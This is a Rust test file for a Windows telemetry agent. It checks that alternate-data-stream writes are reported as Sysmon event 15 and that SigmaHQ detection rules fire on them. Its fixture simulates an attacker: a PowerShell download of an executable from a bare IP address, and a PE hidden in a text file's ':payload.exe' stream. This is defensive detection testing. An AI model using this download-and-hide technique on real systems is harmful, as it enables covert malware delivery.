//! A named stream written through a handle now closed is Sysmon's event 15
//! (FileCreateStreamHash), key for key: `TargetFilename` the stream's full
//! name, `Hash` the hashes of the file the stream belongs to (its unnamed
//! stream, as Sysmon's documentation says), `Contents` the stream's text
//! when it is text under 1 KB, with line ends as spaces. The close of a
//! handle that wrote a file's unnamed stream is no event. SigmaHQ has no
//! Sysmon 15 sample, so the keys are checked against the event's definition
//! in Sysmon's schema (`sysmon -s`, event 15), written out here
//! independently of the content crate's table; and the SigmaHQ
//! create_stream_hash rules run on what the agent wrote.
//!
//! Off Windows, `--files-root` stands in for the volume: a stream is the
//! file named `file:stream` there (on Windows the same DOS name opens the
//! stream itself).

mod support;

use std::path::Path;

use ringside_agent::synth::{BatchBuilder, sid};
use support::{agent, assert_sysmon_keys, at, create_explorer, lines, replay_of};

/// Sysmon's schema, event 15 (FileCreateStreamHash), in its order.
const SYSMON_15: [&str; 10] = [
    "RuleName",
    "UtcTime",
    "ProcessGuid",
    "ProcessId",
    "Image",
    "TargetFilename",
    "CreationUtcTime",
    "Hash",
    "Contents",
    "User",
];

/// A real PE with a real import table (so an IMPHASH): Wine's kernel32.dll
/// (Wine is a test dependency of this repository: `cargo xtask wine`).
const KERNEL32: &str = "/usr/lib/x86_64-linux-gnu/wine/x86_64-windows/kernel32.dll";

const ZONE: &str = "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=http://192.168.56.10/files/tool.exe\r\n";

/// The volume (under a `--files-root`) and the replay: PowerShell writes a
/// download and its mark of the web, spells out a file's unnamed stream,
/// hides a PE in a text file's stream, and writes a stream of a file that
/// is gone when the agent looks; and, outside Downloads, a stream of a
/// file in AppData.
struct Scenario {
    root: tempfile::TempDir,
    _replay_dir: tempfile::TempDir,
    replay: std::path::PathBuf,
    /// tool.exe's bytes.
    tool: Vec<u8>,
}

fn scenario() -> Scenario {
    let bytes = std::fs::read(KERNEL32)
        .unwrap_or_else(|e| panic!("{KERNEL32}: {e} (install Wine: apt-get install wine64)"));
    let root = tempfile::tempdir().expect("tempdir");
    let downloads = root.path().join("C/Users/u/Downloads");
    std::fs::create_dir_all(&downloads).expect("mkdir");
    std::fs::write(downloads.join("tool.exe"), &bytes).expect("write");
    std::fs::write(downloads.join("tool.exe:Zone.Identifier"), ZONE).expect("write");
    std::fs::write(downloads.join("notes.txt"), "plain text\r\n").expect("write");
    // A stream holding a PE: no Contents (not text).
    std::fs::write(downloads.join("notes.txt:payload.exe"), &bytes).expect("write");

    let user = sid(5, &[21, 1_004_336_348, 1_177_238_915, 682_003_330, 1001]);
    let medium = sid(16, &[0x2000]);
    let mut b = BatchBuilder::new();
    create_explorer(&mut b, &user, &medium);
    b.process_create(
        at(2000, 1),
        1000,
        r"\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell -c iwr http://192.168.56.10/files/tool.exe -OutFile tool.exe",
        &user,
        &medium,
    );
    let dir = r"\Device\HarddiskVolume3\Users\u\Downloads";
    b.file_close_modified(at(2000, 10), &format!(r"{dir}\tool.exe"));
    b.file_close_modified(at(2000, 11), &format!(r"{dir}\tool.exe:Zone.Identifier"));
    b.file_close_modified(at(2000, 12), &format!(r"{dir}\notes.txt::$DATA"));
    b.file_close_modified(at(2000, 13), &format!(r"{dir}\notes.txt:payload.exe:$DATA"));
    // A stream whose file is gone by the time the agent looks.
    b.file_close_modified(at(2000, 14), &format!(r"{dir}\gone.txt:x"));
    b.file_close_modified(
        at(2000, 15),
        r"\Device\HarddiskVolume3\Users\u\AppData\Local\cache.db:state",
    );
    let replay_dir = tempfile::tempdir().expect("tempdir");
    let replay = replay_dir.path().join("s.replay");
    std::fs::write(&replay, replay_of(&[b.take()])).expect("write");
    Scenario {
        root,
        _replay_dir: replay_dir,
        replay,
        tool: bytes,
    }
}

#[test]
fn a_named_stream_is_sysmon_event_15_key_for_key_and_fires_its_rules() {
    if cfg!(windows) {
        return; // --files-root maps DOS paths only off Windows.
    }
    let s = scenario();
    let (root, path, bytes) = (&s.root, &s.replay, &s.tool);
    let downloads = root.path().join("C/Users/u/Downloads");
    let rules = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/data/sigma/rules/windows/create_stream_hash");
    let (code, stdout, stderr) = agent(&[
        "replay",
        path.to_str().expect("UTF-8"),
        "--files-root",
        root.path().to_str().expect("UTF-8"),
        "--rules",
        rules.to_str().expect("UTF-8"),
    ]);
    assert_eq!(code, 0, "{stderr}");
    let events = lines(&stdout);
    let streams: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["EventID"] == 15 && e.get("Alert").is_none())
        .map(|e| &e["EventData"])
        .collect();
    let names: Vec<&str> = streams
        .iter()
        .map(|e| e["TargetFilename"].as_str().expect("TargetFilename"))
        .collect();
    assert_eq!(
        names,
        [
            r"C:\Users\u\Downloads\tool.exe:Zone.Identifier",
            r"C:\Users\u\Downloads\notes.txt:payload.exe",
            r"C:\Users\u\Downloads\gone.txt:x",
            r"C:\Users\u\AppData\Local\cache.db:state",
        ],
        "only named streams are event 15: {stdout}"
    );
    let zone = streams[0];
    assert_sysmon_keys(&stdout, 15, &SYSMON_15);

    let powershell = events
        .iter()
        .find(|e| e["EventID"] == 1 && e["EventData"]["ProcessId"] == 2000)
        .expect("powershell's process create");
    assert_eq!(zone["ProcessGuid"], powershell["EventData"]["ProcessGuid"]);
    assert_eq!(zone["User"], powershell["EventData"]["User"]);
    assert_eq!(
        zone["Image"],
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    );
    assert_eq!(
        zone["Contents"],
        "[ZoneTransfer]  ZoneId=3  HostUrl=http://192.168.56.10/files/tool.exe  "
    );
    // The hash is the file's (tool.exe, a PE: with its IMPHASH), not the
    // stream's text.
    let hash = zone["Hash"].as_str().expect("Hash");
    assert_eq!(hash, hashes_of(bytes));
    assert!(!hash.contains("IMPHASH=000"), "{hash}");
    match std::fs::metadata(downloads.join("tool.exe")).and_then(|m| m.created()) {
        Ok(created) => assert_eq!(
            zone["CreationUtcTime"],
            ringside_agent::time::utc_time(ringside_agent::time::filetime_of(created))
        ),
        Err(_) => assert_eq!(zone["CreationUtcTime"], "-"),
    }
    let payload = streams[1];
    assert_eq!(payload["Contents"], "-", "a PE is not text");
    assert_eq!(
        payload["Hash"],
        hashes_of(b"plain text\r\n"),
        "notes.txt is the file hashed, not its stream"
    );
    let gone = streams[2];
    assert_eq!(
        (&gone["Hash"], &gone["Contents"]),
        (&"-".into(), &"-".into())
    );

    // SigmaHQ: a ZoneId=3 mark on an .exe written by other than a browser,
    // and a download from a bare IP address; the executable hidden in an
    // ADS needs the file's IMPHASH (tool.exe's).
    for (rule, fires) in [
        ("573df571-a223-43bc-846e-3f98da481eca", 1), // creation_internet_file
        ("025bd229-fd1f-4fdb-97ab-20006e1a5368", 1), // susp_ip_domains
        ("b69888d4-380c-45ce-9cf9-d9ce46e67821", 1), // ads_executable
    ] {
        let alerts = events
            .iter()
            .filter(|e| e["Alert"]["RuleId"] == rule)
            .count();
        assert_eq!(alerts, fires, "rule {rule}: {stdout}");
    }
}

/// Sysmon's `Hashes` text of a file's bytes, as the agent's defaults
/// (`--hashes md5,sha256,imphash`) give it.
fn hashes_of(bytes: &[u8]) -> String {
    use ringside_agent::enrich::{hash, pe};
    let imphash = pe::Image::parse(bytes).as_ref().and_then(pe::imphash);
    hash::sysmon_hashes(hash::HashSet::default(), bytes, imphash)
}

/// A Sysmon configuration's FileCreateStreamHash filters apply (here
/// SwiftOnSecurity's: streams whose name contains `Downloads`, among
/// others): the AppData stream is not written, the Downloads ones are.
#[test]
fn file_create_stream_hash_filters_apply() {
    if cfg!(windows) {
        return; // --files-root maps DOS paths only off Windows.
    }
    let s = scenario();
    let config = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/data/sysmon-config/swiftonsecurity-sysmonconfig-export.xml");
    let (code, stdout, stderr) = agent(&[
        "replay",
        s.replay.to_str().expect("UTF-8"),
        "--files-root",
        s.root.path().to_str().expect("UTF-8"),
        "--config",
        config.to_str().expect("UTF-8"),
    ]);
    assert_eq!(code, 0, "{stderr}");
    let names: Vec<String> = lines(&stdout)
        .iter()
        .filter(|e| e["EventID"] == 15)
        .map(|e| {
            e["EventData"]["TargetFilename"]
                .as_str()
                .expect("name")
                .to_owned()
        })
        .collect();
    assert_eq!(
        names,
        [
            r"C:\Users\u\Downloads\tool.exe:Zone.Identifier",
            r"C:\Users\u\Downloads\notes.txt:payload.exe",
            r"C:\Users\u\Downloads\gone.txt:x",
        ]
    );
}
